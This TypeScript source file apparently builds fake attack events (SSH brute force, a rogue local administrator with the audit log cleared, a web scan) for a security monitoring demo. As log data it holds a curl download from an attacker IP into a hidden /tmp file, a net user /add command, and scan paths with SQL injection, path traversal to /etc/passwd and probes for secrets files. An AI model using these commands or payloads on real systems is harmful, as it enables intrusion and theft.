/** The attacks of the demo data, each a script of events for searches, alerts and incidents to find. */

import { hex, type DemoContext, type EventWriter } from './context';
import { webAccess } from './network-events';
import { fqdn } from './population';
import { sshAccepted, sshFailed, sudoCommand } from './unix-events';
import { processCreated } from './windows-processes';
import { failedLogon, logon, securityEvent, subject } from './windows-security';

/** The writers of one attack's events, in order. */
export type Attack = readonly EventWriter[];

const SCAN_PATHS = [
	'/wp-login.php',
	'/.env',
	'/.git/config',
	'/phpmyadmin/index.php',
	'/admin/config.php',
	'/cgi-bin/luci',
	'/search?q=%27%20OR%201=1--',
	'/download?file=../../../../etc/passwd',
	'/api/v1/users?id=1%20UNION%20SELECT%20password',
	'/server-status',
];

function times(count: number, write: EventWriter): EventWriter[] {
	return Array.from({ length: count }, () => write);
}

/** Passwords of root are guessed over SSH until one fits; then the guest downloads a tool as root. */
function sshBruteForce({ random, people }: DemoContext): Attack {
	const ip = random.pick(people.attackers);
	const host = random.pick(people.unix);
	const guesses = times(random.between(25, 45), (c, t) => {
		const known = c.random.chance(0.5);
		const user = known ? 'root' : c.random.pick(['oracle', 'test', 'admin', 'postgres']);
		return sshFailed(c, t, host, user, ip, known);
	});
	return [
		...guesses,
		(c, t) => sshAccepted(c, t, host, 'root', ip),
		(c, t) => sudoCommand(c, t, host, 'root', `/usr/bin/curl -o /tmp/.x http://${ip}/x`),
	];
}

/** A Windows password is guessed, a new account becomes local administrator, and the trail is wiped. */
function newLocalAdmin({ random, people }: DemoContext): Attack {
	const ip = random.pick(people.attackers);
	const host = random.skewed(people.windows);
	const victim = random.skewed(people.admins);
	const added = `support${random.below(90) + 10}`;
	const logonId = hex(random.below(0x7fffffff));
	const who = subject('Subject', victim, logonId);
	return [
		...times(random.between(12, 20), (c, t) => failedLogon(c, t, host, victim, ip)),
		(c, t) => logon(c, t, host, victim, ip),
		(c, t) =>
			processCreated(c, t, host, victim, [
				'C:\\Windows\\System32\\net.exe',
				`net user ${added} * /add`,
			]),
		(c, t) =>
			securityEvent(c, t, {
				id: 4720,
				name: 'User account created',
				category: 'User Account Management',
				host,
				user: victim,
				message: `A user account was created.\r\n\r\n${who}${subject('New Account', added, '-')}`,
				more: { TARGETUSERNAME: added, TARGETDOMAINNAME: host.name, SUBJECTLOGONID: logonId },
			}),
		(c, t) =>
			securityEvent(c, t, {
				id: 4732,
				name: 'Member added to local group',
				category: 'Security Group Management',
				host,
				user: victim,
				message:
					`A member was added to a security-enabled local group.\r\n\r\n${who}` +
					`Member:\r\n\tAccount Name:\t\t${added}\r\n\r\n` +
					'Group:\r\n\tSecurity ID:\t\tBUILTIN\\Administrators\r\n\tGroup Name:\t\tAdministrators\r\n\tGroup Domain:\t\tBuiltin',
				more: { TARGETUSERNAME: 'Administrators', MEMBERNAME: added, SUBJECTLOGONID: logonId },
			}),
		(c, t) => {
			const cleared = securityEvent(c, t, {
				id: 1102,
				name: 'Audit log cleared',
				category: 'Log clear',
				host,
				user: victim,
				message: `The audit log was cleared.\r\n${who}`.trimEnd(),
				more: { SUBJECTLOGONID: logonId, COMPUTER: fqdn(host) },
			});
			return { time: t, fields: { ...cleared.fields, SOURCE: 'Microsoft-Windows-Eventlog' } };
		},
	];
}

/** A web server is scanned for known holes. */
function webScan({ random, people }: DemoContext): Attack {
	const ip = random.pick(people.attackers);
	const host = random.pick(people.web);
	return times(random.between(30, 50), (c, t) => {
		const url = c.random.pick(SCAN_PATHS);
		return webAccess(c, t, {
			host,
			ip,
			method: 'GET',
			url,
			status: c.random.chance(0.1) ? 500 : c.random.chance(0.2) ? 403 : 404,
			agent: 'Mozilla/5.0 (compatible; Nikto/2.5.0)',
		});
	});
}

/** An attack with its name, as the command line takes it. */
export interface NamedAttack {
	/** What happens, in a few words. */
	readonly what: string;
	readonly make: (context: DemoContext) => Attack;
}

/** The attacks by name. */
export const DEMO_ATTACKS: ReadonlyMap<string, NamedAttack> = new Map([
	['ssh-brute-force', { what: 'passwords guessed over SSH until one fits', make: sshBruteForce }],
	[
		'new-local-admin',
		{ what: 'a new local administrator, and the log cleared', make: newLocalAdmin },
	],
	['web-scan', { what: 'a web server scanned for holes', make: webScan }],
]);

const ATTACKS = [...DEMO_ATTACKS.values()];

/** The `n`th attack of a run (0-based); the kinds take turns. */
export function attackNumber(n: number, context: DemoContext): Attack {
	return ATTACKS[n % ATTACKS.length]!.make(context);
}
